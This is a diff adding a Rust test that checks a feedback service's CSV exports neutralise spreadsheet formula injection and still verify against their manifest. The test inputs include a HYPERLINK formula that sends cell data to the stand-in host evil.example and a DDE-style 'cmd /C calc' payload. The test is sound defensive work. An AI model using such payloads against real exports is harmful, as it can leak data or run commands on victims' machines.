@@ -2,6 +2,7 @@
 //! included) are refused with a reason and never block what came with them;
 //! formulas leave every CSV as text a spreadsheet will not run.
 
+use crate::chain::{download, manifest_of, verified, write};
 use crate::complaints::{complaint, filed, new_code};
 use crate::helpers::{new_id, problem, response, spawn_app, As, Db, Sent};
 use serde_json::json;
@@ -10,6 +11,7 @@ use suara::auth::Role;
 crate::both!(
     a_control_character_rejects_its_response_and_not_the_batch,
     control_characters_in_complaints_and_messages_are_refused,
+    no_csv_carries_a_formula_and_verify_still_proves_the_export,
 );
 
 async fn a_control_character_rejects_its_response_and_not_the_batch(db: Db) {
@@ -104,5 +106,86 @@ async fn control_characters_in_complaints_and_messages_are_refused(db: Db) {
         .sent()
         .await;
     problem(r, 400).await;
+    app.finish().await;
+}
+
+/// Formulas typed into a comment, a complaint and a sign-in's email come out
+/// of the responses, complaints and audit CSVs as text; the responses' file
+/// still verifies whole with its manifest.
+async fn no_csv_carries_a_formula_and_verify_still_proves_the_export(db: Db) {
+    let app = spawn_app(db).await;
+    let service = app.service_id("paspor-baru-jaksel").await;
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
+        "+62 812 3456 7890",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'=already quoted",
+    ];
+    let batch = formulas
+        .iter()
+        .map(|f| {
+            let mut r = response(&new_id(), &service, json!({"U1": 4}));
+            r["comment"] = json!(f);
+            r
+        })
+        .collect();
+    let results = app.post_results(batch).await;
+    assert!(results.iter().all(|r| r["status"] == "accepted"), "{results:?}");
+    filed(&app, "paspor-baru-jaksel", "=1+2 antrean tidak jelas sejak pagi").await;
+    app.post_form(
+        "/login",
+        As::Nobody,
+        &[("email", "=1+2@example.org"), ("password", "wrong password")],
+    )
+    .await;
+
+    let token = app.token(Role::Admin, &[]).await;
+    let (headers, csv) = download(&app, &token, "").await;
+    let complaints = app
+        .http
+        .get(app.url("/api/v1/complaints/export"))
+        .bearer_auth(&token)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let audit = app
+        .http
+        .get(app.url("/api/v1/audit?format=csv"))
+        .bearer_auth(&token)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    for (name, file) in [("responses", &csv), ("complaints", &complaints), ("audit", &audit)] {
+        let mut reader = csv::ReaderBuilder::new().from_reader(file.as_bytes());
+        let mut cells = 0;
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                let bare = cell.trim_start_matches('\'');
+                let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+                let plain_number = cell.parse::<f64>().is_ok() && !cell.contains(['e', 'E']);
+                assert!(!runs || plain_number, "{name}: a spreadsheet would run {cell:?}");
+                if bare.len() < cell.len() {
+                    assert!(cell.starts_with('\''), "{cell}");
+                }
+            }
+        }
+        assert!(cells > 0, "{name} is empty");
+    }
+    assert!(csv.contains("'=HYPERLINK("), "{csv}");
+    assert!(csv.contains("''=already quoted"), "{csv}");
+    assert!(complaints.contains("'=1+2 antrean"), "{complaints}");
+    assert!(audit.contains("'=1+2@example.org"), "{audit}");
+    // The auditor's proof: the neutralised file still matches every hash.
+    let manifest = manifest_of(&app, &token, &headers).await;
+    let dir = tempfile::tempdir().unwrap();
+    verified(&write(&dir, "formulas.csv", &csv), Some(&manifest));
     app.finish().await;
 }
